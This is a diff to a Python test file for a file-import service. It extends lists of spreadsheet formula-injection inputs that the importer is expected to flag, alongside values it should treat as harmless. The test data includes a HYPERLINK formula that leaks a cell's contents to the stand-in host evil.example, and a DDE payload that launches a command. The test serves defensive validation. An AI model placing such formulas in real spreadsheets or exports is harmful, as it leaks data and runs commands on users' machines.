@@ -19,8 +19,10 @@ from lifeline.ingest.service import import_file
 from lifeline.model.deliveries import delivery_table
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-RISKY = [LINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\uff1d1+1", "=cmd|' /C calc'!A0"]
-HARMLESS = ["UNRWA", "a = b", " =1", "2024-05-01", "", "'=already quoted", "مرحبا"]
+RISKY = [LINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\uff1d1+1", "=cmd|' /C calc'!A0", "-5)+A1", "-1e3+1",
+         "=5", "-", "--5"]
+HARMLESS = ["UNRWA", "a = b", " =1", "2024-05-01", "", "'=already quoted", "مرحبا", "-5", "+0.25", "-1,234.5",
+            "-2e3", "-12%"]
 
 
 def _table(values: list[object]) -> ResultTable:
